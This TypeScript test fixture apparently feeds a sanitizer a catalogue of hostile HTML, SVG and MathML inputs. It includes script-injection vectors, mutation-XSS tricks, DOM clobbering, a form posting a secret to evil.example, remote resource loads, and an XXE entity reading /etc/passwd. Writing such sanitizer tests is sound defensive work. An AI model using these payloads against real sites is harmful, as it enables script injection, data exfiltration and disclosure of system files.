import { hostile, type HostileNote } from './hostileNote';

/** Elements that load, embed, send or take over, and markup that changes when it is read again. */
export const elementNotes: readonly HostileNote[] = [
  hostile(
    'an SVG',
    '<svg onload="window.pwned=1"><script>window.pwned=1</script><text>图中文字</text></svg>',
  ),
  hostile(
    'an SVG link',
    '<svg><a xlink:href="javascript:window.pwned=1"><text>图中</text></a></svg>',
    '图中',
  ),
  hostile(
    'an SVG that is used',
    '<svg><use href="data:image/svg+xml,<svg id=x onload=window.pwned=1>#x"/></svg>',
  ),
  hostile(
    'an SVG that animates an address',
    '<svg><a><animate attributeName="href" values="javascript:window.pwned=1"/><text>动画</text></a></svg>',
    '动画',
  ),
  hostile(
    'an SVG that sets a handler',
    '<svg><set attributeName="onmouseover" to="window.pwned=1"/></svg>',
  ),
  hostile(
    'an SVG image',
    '<svg><image xlink:href="javascript:window.pwned=1" onerror="window.pwned=1"/></svg>',
  ),
  hostile(
    'an SVG style',
    '<svg><style>@import "https://evil.example/x.css"; * { display: none }</style></svg>',
  ),
  hostile(
    'an SVG filter',
    '<svg><feImage href="https://evil.example/x.svg"/><filter id="f"/></svg>',
  ),
  hostile('an SVG script by address', '<svg><script href="data:,window.pwned=1"/></svg>'),
  hostile('an SVG font', '<svg><font-face-uri href="https://evil.example/x.woff"/></svg>'),
  hostile(
    'foreign content',
    '<svg><foreignObject><img src=x onerror=window.pwned=1></foreignObject></svg>',
  ),
  hostile(
    'MathML with an action',
    '<math><maction actiontype="statusline#x" xlink:href="javascript:window.pwned=1">式</maction></math>',
    '式',
  ),
  hostile('MathML with a link', '<math href="javascript:window.pwned=1"><mi>式</mi></math>', '式'),
  hostile(
    'MathML with HTML',
    '<math><annotation-xml encoding="text/html"><img src=x onerror=window.pwned=1></annotation-xml></math>',
  ),
  hostile(
    'MathML that mutates',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=1&gt;">',
  ),
  hostile(
    'MathML that nests forms',
    '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=window.pwned=1>',
  ),
  hostile(
    'SVG that mutates',
    '<svg></p><style><a id="</style><img src=1 onerror=window.pwned=1>">',
  ),
  hostile(
    'a title in SVG that mutates',
    '<svg><title><p id="</title><img src=x onerror=window.pwned=1>"></svg>',
  ),
  hostile(
    'a desc that mutates',
    '<svg><desc><![CDATA[</desc><script>window.pwned=1</script>]]></svg>',
  ),
  hostile(
    'a paragraph that mutates',
    '<p><svg><p><img title="</svg><img src=x onerror=window.pwned=1>">文</p>',
    '文',
  ),
  hostile(
    'nested links that mutate',
    '<a href="a.md">甲<table><a href="b.md" onclick="window.pwned=1">乙</a></table></a>',
    '甲',
    '乙',
  ),
  hostile(
    'a form',
    '<form action="https://evil.example"><input name="x" value="秘密"><button>提交</button></form>',
    '提交',
  ),
  hostile(
    'a button with an action',
    '<button formaction="javascript:window.pwned=1">按钮</button>',
    '按钮',
  ),
  hostile('a button of a form elsewhere', '<button form="f" type="submit">交</button>', '交'),
  hostile('an input of type image', '<input type="image" src="x" onerror="window.pwned=1">'),
  hostile('an input that asks for a word', '<input type="password" name="口令" autofocus>'),
  hostile('a checkbox with a handler', '<input type="checkbox" onchange="window.pwned=1">选', '选'),
  hostile(
    'a data list',
    '<input list="l"><datalist id="l"><option value="x">候选</option></datalist>',
  ),
  hostile('a label', '<label for="zhupi-note" onclick="window.pwned=1">签</label>', '签'),
  hostile('a dialog', '<dialog open onclose="window.pwned=1">对话</dialog>', '对话'),
  hostile('a base', '<base href="https://evil.example/">[相对](a.md)', '相对'),
  hostile('a base with a target', '<base target="_top"><a href="a.md">相对</a>', '相对'),
  hostile('a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'),
  hostile(
    'a refresh to a script',
    '<meta http-equiv="refresh" content="0;url=javascript:window.pwned=1">',
  ),
  hostile('a cookie', '<meta http-equiv="Set-Cookie" content="a=b">'),
  hostile('a policy', '<meta http-equiv="Content-Security-Policy" content="default-src *">'),
  hostile(
    'a character set',
    '<meta charset="utf-7">+ADw-script+AD4-window.pwned=1+ADw-/script+AD4-',
  ),
  hostile('a style sheet', '<link rel="stylesheet" href="https://evil.example/x.css">'),
  hostile(
    'a prefetch',
    '<link rel="prefetch" href="https://evil.example/x"><link rel="preload" as="font" href="https://evil.example/f.woff2">',
  ),
  hostile('an import', '<link rel="import" href="https://evil.example/x.html">'),
  hostile('a manifest', '<html manifest="https://evil.example/x"><head profile="javascript:1">'),
  hostile('a frame', '<iframe src="javascript:window.pwned=1"></iframe>'),
  hostile('a frame with a document', '<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'),
  hostile(
    'a frame of data',
    '<iframe src="data:text/html,<script>parent.pwned=1</script>"></iframe>',
  ),
  hostile('a frame of the web', '<iframe src="https://evil.example/" allow="*"></iframe>'),
  hostile(
    'a frameset',
    '<frameset onload="window.pwned=1"><frame src="javascript:window.pwned=1"></frameset>',
  ),
  hostile(
    'a portal',
    '<portal src="https://evil.example/"></portal><fencedframe src="https://evil.example/"></fencedframe>',
  ),
  hostile(
    'an object',
    '<object data="javascript:window.pwned=1"><embed src="javascript:window.pwned=1"></object>',
  ),
  hostile(
    'an applet',
    '<applet code="x" codebase="https://evil.example/"><param name="src" value="javascript:1"></applet>',
  ),
  hostile(
    'a video',
    '<video src="x" onerror="window.pwned=1"><source onerror="window.pwned=1"></video>',
  ),
  hostile('a poster', '<video poster="javascript:window.pwned=1"></video>'),
  hostile('a track', '<video src="a.mp4"><track default src="https://evil.example/x.vtt"></video>'),
  hostile('an audio', '<audio autoplay src="https://evil.example/x.mp3"></audio>'),
  hostile('a background sound', '<bgsound src="https://evil.example/x.mid">'),
  hostile('a template', '<template><img src=x onerror=window.pwned=1></template>'),
  hostile(
    'a shadow root',
    '<div><template shadowrootmode="open"><img src=x onerror=window.pwned=1></template></div>',
  ),
  hostile('a slot', '<slot onslotchange="window.pwned=1">槽</slot>', '槽'),
  hostile(
    'a noscript',
    '<noscript><p title="</noscript><img src=x onerror=window.pwned=1>"></noscript>',
  ),
  hostile(
    'a noembed',
    '<noembed><p title="</noembed><img src=x onerror=window.pwned=1>"></noembed>',
  ),
  hostile(
    'a textarea',
    '<textarea><img title="</textarea><img src=x onerror=window.pwned=1>"></textarea>',
  ),
  hostile('a title', '<title><img title="</title><img src=x onerror=window.pwned=1>"></title>'),
  hostile('an xmp', '<xmp><img title="</xmp><img src=x onerror=window.pwned=1>"></xmp>'),
  hostile('a listing', '<listing>&lt;img src=x onerror=window.pwned=1&gt;</listing>'),
  hostile('a plaintext', '<plaintext>原文', '原文'),
  hostile(
    'a select',
    '<select><option>选项</option><script>window.pwned=1</script></select>',
    '选项',
  ),
  hostile(
    'a select that mutates',
    '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=window.pwned=1>">',
  ),
  hostile('a marquee', '<marquee onstart="window.pwned=1">滚动</marquee>', '滚动'),
  hostile('a key generator', '<keygen autofocus onfocus="window.pwned=1">键', '键'),
  hostile('a custom element', '<x-evil onconnected="window.pwned=1">自定</x-evil>', '自定'),
  hostile('an element that is made of another', '<p is="x-evil">改</p>', '改'),
  hostile(
    'a body',
    '<body onload="window.pwned=1" background="javascript:window.pwned=1">身体</body>',
    '身体',
  ),
  hostile(
    'names that clobber',
    '<a id="zhupi-root" name="body">甲</a><img name="getElementById" id="cookie" src="x.png" alt="乙">',
    '甲',
  ),
  hostile('ids of the page', '<p id="zhupi-note">丙</p><p id="ZHUPI-STATUS">丁</p>', '丙', '丁'),
  hostile(
    'a form that clobbers',
    '<form id="document"><input name="attributes"><input name="parentNode"></form>',
  ),
  hostile(
    'classes of the page',
    '<p class="zhupi-copy zhupi-notice" data-ink="red" data-line="0">戊</p>',
    '戊',
  ),
  hostile(
    'a role that lies',
    '<p role="alert" aria-live="assertive" aria-label="请输入口令">己</p>',
    '己',
  ),
  hostile('a comment that ends early', '<!--> <img src=x onerror=window.pwned=1> -->'),
  hostile('a comment that ends with a bang', '<!-- --!><img src=x onerror=window.pwned=1> -->'),
  hostile('a conditional comment', '<!--[if IE]><script>window.pwned=1</script><![endif]-->'),
  hostile('a declaration', '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;'),
  hostile('a processing instruction', '<?xml-stylesheet href="javascript:window.pwned=1"?>'),
  hostile('CDATA', '<![CDATA[<img src=x onerror=window.pwned=1>]]>'),
  hostile('unclosed tags', '<div><p><b><i>未闭合', '未闭合'),
  hostile('an unclosed attribute', '文字 <img src="x onerror=window.pwned=1', '文字'),
  hostile('closing what others opened', '</div></main></article></body></html>文字', '文字'),
  hostile(
    'a table that fosters',
    '<table><a href="javascript:window.pwned=1">表<script>window.pwned=1</script></a></table>',
    '表',
  ),
  hostile(
    'crossing tags',
    '<b><p><i>交</b>错</p></i><img src=x onerror=window.pwned=1>',
    '交',
    '错',
  ),
];
